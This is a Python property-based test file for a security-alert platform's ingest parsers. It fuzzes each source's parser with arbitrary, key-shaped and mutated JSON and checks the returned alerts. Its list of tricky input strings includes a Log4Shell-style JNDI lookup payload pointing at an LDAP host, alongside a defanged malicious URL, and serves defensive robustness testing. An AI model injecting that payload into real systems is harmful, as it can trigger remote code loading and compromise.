"""Property tests: no input makes a parser raise anything but ParseError.

Three input families per parser: arbitrary JSON, JSON built from the source's own key
names (so the parser gets past its first checks and meets wrong types deeper down),
and the source's sample payload with random parts dropped, replaced or retyped.
Every Alert returned must validate and respect the length and count caps.
"""

from __future__ import annotations

import ipaddress
import json
from functools import cache
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from soar.alerts.models import Alert, ObservableType
from soar.alerts.observables import MAX_OBSERVABLES
from soar.ingest.parsers import PARSERS
from soar.ingest.parsers.base import SKIPPED, ParseContext, ParseError
from soar.ingest.parsers.fields import DESCRIPTION_MAX, TITLE_MAX, parse_time
from soar.ingest.parsers.generic import DEFAULT_PATHS
from tests.conftest import SAMPLES

SOURCES = sorted(PARSERS)
SETTINGS = settings(
    max_examples=100,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

TRICKY_STRINGS = [
    "",
    " ",
    "-",
    "alert",
    "resolved",
    "firing",
    "high",
    "Critical",
    "5.5",
    "1e400",
    "NaN",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59-01:00",
    "0001-01-01T00:00:00+01:00",
    "1763805000000",
    "203.0.113.7",
    "999.1.1.1",
    "2001:db8::1",
    "hxxp://evil[.]example/x",
    "/relative?x=${jndi:ldap://203.0.113.66/a}",
    "a@b.example",
    "44d88612fea8a8f36de82e1278abb02f",
    "#microsoft.graph.security.ipEvidence",
    "Ip",
    "Host",
    "Account",
    "OUTBOUND",
    "\ud800",
    "x" * 5000,
]

scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=40)
    | st.sampled_from(TRICKY_STRINGS)
)


def any_json(keys: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    return st.recursive(
        scalars,
        lambda children: (
            st.lists(children, max_size=4) | st.dictionaries(keys, children, max_size=6)
        ),
        max_leaves=15,
    )


arbitrary_json = any_json(st.text(max_size=12))


@cache
def load_samples(source: str) -> list[Any]:
    ndjson = SAMPLES / f"{source}.ndjson"
    if ndjson.exists():
        return [json.loads(line) for line in ndjson.read_text().splitlines() if line.strip()]
    return [json.loads((SAMPLES / f"{source}.json").read_text())]


def key_names(value: Any, prefix: str = "") -> set[str]:
    """Every key of a payload, both bare and as the dotted path from the root."""
    names: set[str] = set()
    if isinstance(value, dict):
        for key, child in value.items():
            path = f"{prefix}{key}"
            names |= {key, path} | key_names(child, path + ".")
    elif isinstance(value, list):
        for child in value:
            names |= key_names(child, prefix)
    return names


EXTRA_KEYS = {
    "elastic": {"context", "alerts", "_source", "_id", "signal", "kibana.alert.uuid",
                "kibana.alert.rule.name", "signal.rule.name", "kibana.alert.risk_score",
                "url.full", "dns.question.name", "source.ip", "kibana.alert.status"},
    "wazuh": {"all_fields", "title", "text", "severity", "syscheck", "sha256_after", "srcip",
              "dstuser", "url"},
    "sentinel": {"value", "evidence", "@odata.type", "ipAddress", "deviceDnsName", "userAccount",
                 "roles", "hostName", "dnsDomain", "hashValue", "url", "kind", "fileDetails",
                 "ipInterfaces", "properties", "title", "severity", "status"},
    "guardduty": {"awsApiCallAction", "dnsRequestAction", "portProbeAction", "portProbeDetails",
                  "remoteIpDetails", "ipAddressV4", "accessKeyDetails", "userName", "domain",
                  "connectionDirection", "domainDetails"},
    "suricata": {"http", "hostname", "url", "dns", "rrname", "tls", "sni", "severity"},
    "generic": set(DEFAULT_PATHS) | {"rule_name", "name"},
    "datadog": {"signal_id", "message", "usr.email", "network.client.ip", "hostname"},
    "graylog": {"group_by_fields", "dst_ip", "user_email"},
    "alertmanager": {"dashboardURL", "panelURL", "dst_ip", "url", "hash"},
    "grafana": {"dashboardURL", "panelURL", "instance", "url"},
    "splunk": {"urgency", "src_user", "file_hash", "url", "dest_user"},
}  # fmt: skip


@cache
def shaped_json(source: str) -> st.SearchStrategy[dict[str, Any]]:
    """Objects whose keys, at every depth, are the source's own key names."""
    names: set[str] = set(EXTRA_KEYS.get(source, set()))
    for document in load_samples(source):
        names |= key_names(document)
    keys = st.sampled_from(sorted(names))
    return st.dictionaries(keys, any_json(keys), max_size=6)


@st.composite
def mutated(draw: st.DrawFn, value: Any, source: str) -> Any:
    """`value` with random subtrees dropped, retyped, flattened or given extra source keys.

    A leaf is replaced one time in four, a container one time in twenty.
    """
    choice = draw(st.integers(0, 19))
    if choice == 0 or (choice < 5 and not isinstance(value, dict | list)):
        return draw(scalars if choice % 2 else arbitrary_json)
    if isinstance(value, dict):
        result: dict[str, Any] = {}
        for key, child in value.items():
            action = draw(st.integers(0, 9))
            if action == 0:
                continue
            child = draw(mutated(child, source))
            if action == 1 and isinstance(child, dict):
                result.update({f"{key}.{k}": v for k, v in child.items()})
            else:
                result[key] = child
        if choice == 2:
            result.update(draw(shaped_json(source)))
        return result
    if isinstance(value, list):
        return [draw(mutated(child, source)) for child in value if draw(st.integers(0, 9))]
    return value


def check(source: str, document: Any, field_map: dict[str, str] | None = None) -> None:
    """Run a parser; it may raise ParseError, and whatever it returns must be well formed."""
    try:
        items = PARSERS[source](document, ParseContext(source=source, field_map=field_map or {}))
    except ParseError:
        return
    assert isinstance(items, list)
    for item in items:
        assert isinstance(item, Alert | ParseError) or item is SKIPPED
        if isinstance(item, Alert):
            check_alert(item, source)


def check_alert(alert: Alert, source: str) -> None:
    assert Alert.model_validate(alert.model_dump()) == alert
    alert.model_dump_json().encode("utf-8")
    assert alert.source == source
    assert 0 < len(alert.title) <= TITLE_MAX
    assert alert.description is None or len(alert.description) <= DESCRIPTION_MAX
    assert alert.time.tzinfo is not None
    assert len(alert.observables) <= MAX_OBSERVABLES
    for observable in alert.observables:
        if observable.type is ObservableType.IP:
            ipaddress.ip_address(observable.value)


@pytest.mark.parametrize("source", SOURCES)
@settings(SETTINGS, max_examples=50)
@given(data=st.data())
def test_arbitrary_json(source: str, data: st.DataObject) -> None:
    check(source, data.draw(arbitrary_json))


@pytest.mark.parametrize("source", SOURCES)
@settings(SETTINGS, max_examples=80)
@given(data=st.data())
def test_json_shaped_by_the_source_keys(source: str, data: st.DataObject) -> None:
    check(source, data.draw(shaped_json(source)))


@pytest.mark.parametrize("source", SOURCES)
@SETTINGS
@given(data=st.data())
def test_mutated_samples(source: str, data: st.DataObject) -> None:
    for document in load_samples(source):
        check(source, data.draw(mutated(document, source)))


@SETTINGS
@given(
    document=any_json(st.sampled_from(sorted(DEFAULT_PATHS))),
    field_map=st.dictionaries(st.sampled_from(sorted(DEFAULT_PATHS)), st.text(max_size=20)),
)
def test_generic_with_any_field_map(document: Any, field_map: dict[str, str]) -> None:
    check("generic", document, field_map)


@SETTINGS
@given(data=st.data())
def test_flattening_does_not_change_the_elastic_alert(data: st.DataObject) -> None:
    (document,) = load_samples("elastic")
    element = document["alerts"][0]
    flattened = data.draw(flatten_some(element))
    expected = PARSERS["elastic"](document, ParseContext(source="elastic"))[0]
    got = PARSERS["elastic"]({**document, "alerts": [flattened]}, ParseContext(source="elastic"))[0]
    assert isinstance(expected, Alert)
    assert isinstance(got, Alert)
    assert (got.dedup_key, got.title, got.severity, got.rule, got.time, got.observables) == (
        expected.dedup_key,
        expected.title,
        expected.severity,
        expected.rule,
        expected.time,
        expected.observables,
    )


@st.composite
def flatten_some(draw: st.DrawFn, value: Any) -> Any:
    """`value` with some nested objects merged into their parent under dotted keys."""
    if not isinstance(value, dict):
        return value
    result: dict[str, Any] = {}
    for key, child in value.items():
        child = draw(flatten_some(child))
        if isinstance(child, dict) and child and draw(st.booleans()):
            result.update({f"{key}.{k}": v for k, v in child.items()})
        else:
            result[key] = child
    return result


@SETTINGS
@given(value=arbitrary_json)
def test_parse_time_is_total(value: Any) -> None:
    parsed = parse_time(value)
    assert parsed is None or parsed.utcoffset() is not None
